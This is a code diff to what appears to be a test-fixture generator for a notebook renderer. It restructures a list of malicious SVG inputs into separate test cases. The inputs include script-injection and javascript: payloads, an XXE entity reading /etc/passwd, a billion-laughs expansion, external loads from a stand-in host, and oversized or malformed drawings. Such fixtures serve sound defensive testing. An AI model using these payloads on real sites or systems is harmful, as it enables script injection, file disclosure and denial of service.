@@ -228,27 +228,25 @@ def pictures() -> Cell:
     return notebook(code(*outputs), code(shown(HTML(page))), cell | {"attachments": pasted})
 
 
-def drawings() -> Cell:
-    start = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'
-    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
-    texts = [
-        f"{start}<script>alert(1)</script><script xlink:href='https://shili.example/x.js'/></svg>",
-        f"{start}<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(2)</script></body></foreignObject></svg>",
-        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{start}<text>&x;</text></svg>',
-        f'<!DOCTYPE svg [<!ENTITY a0 "ha">{laughs}]>{start}<text>&a11;</text></svg>',
-        f"{start}<image href='https://shili.example/x.png' width='9' height='9'/><image href='file:///etc/passwd'/></svg>",
-        f"{start}<style>@import url(https://shili.example/x.css); rect {{ fill: url(https://shili.example/y) }}</style><rect/></svg>",
-        f"{start}<a xlink:href='javascript:alert(3)'><rect onclick='alert(4)' width='9' height='9'/></a></svg>",
-        f"{start}<animate attributeName='href' values='javascript:alert(5)'/><set attributeName='onload' to='alert(6)'/></svg>",
-        f"{start}<g id='a'><use href='#a'/></g></svg>",
-        f"{start}<text>" + "字" * 100_000 + "</text></svg>",
-        start * 300,
-        "<svg/>",
-        '<svg xmlns="http://www.w3.org/2000/svg" width="1e30" height="-1"/>',
-        "<html><script>alert(7)</script></html>",
-        '<?xml version="1.0"?><?xml-stylesheet href="https://shili.example/x.xsl"?>' + start + "</svg>",
-    ]
-    return notebook(*(code(drawing(text)) for text in texts))
+START = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'
+LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
+DRAWINGS = [
+    f"{START}<script>alert(1)</script><script xlink:href='https://shili.example/x.js'/></svg>",
+    f"{START}<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(2)</script></body></foreignObject></svg>",
+    f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{START}<text>&x;</text></svg>',
+    f'<!DOCTYPE svg [<!ENTITY a0 "ha">{LAUGHS}]>{START}<text>&a11;</text></svg>',
+    f"{START}<image href='https://shili.example/x.png' width='9' height='9'/><image href='file:///etc/passwd'/></svg>",
+    f"{START}<style>@import url(https://shili.example/x.css); rect {{ fill: url(https://shili.example/y) }}</style><rect/></svg>",
+    f"{START}<a xlink:href='javascript:alert(3)'><rect onclick='alert(4)' width='9' height='9'/></a></svg>",
+    f"{START}<animate attributeName='href' values='javascript:alert(5)'/><set attributeName='onload' to='alert(6)'/></svg>",
+    f"{START}<g id='a'><use href='#a'/></g></svg>",
+    f"{START}<text>" + "字" * 100_000 + "</text></svg>",
+    START * 300,
+    "<svg/>",
+    '<svg xmlns="http://www.w3.org/2000/svg" width="1e30" height="-1"/>',
+    "<html><script>alert(7)</script></html>",
+    '<?xml version="1.0"?><?xml-stylesheet href="https://shili.example/x.xsl"?>' + START + "</svg>",
+]
 
 
 def drawing(text: str) -> Cell:
@@ -310,7 +308,7 @@ NOTEBOOKS: dict[str, Callable[[], Cell]] = {
     "long-cells": long_cells,
     "spans": lambda: notebook(code(shown(HTML("<table>" + "<tr><td rowspan=65534 colspan=1000>甲" * 500 + "</table>")))),
     "pictures": pictures,
-    "drawings": drawings,
+    **{f"drawing-{n}": (lambda text=text: notebook(code(drawing(text)))) for n, text in enumerate(DRAWINGS)},
     "drawing-that-multiplies": drawing_that_multiplies,
     "printed": lambda: notebook(code(printed("行\n" * 300_000), printed("\x1b[" * 200_000), printed("\r" * 300_000 + "完"))),
     "wrong-types": wrong_types,
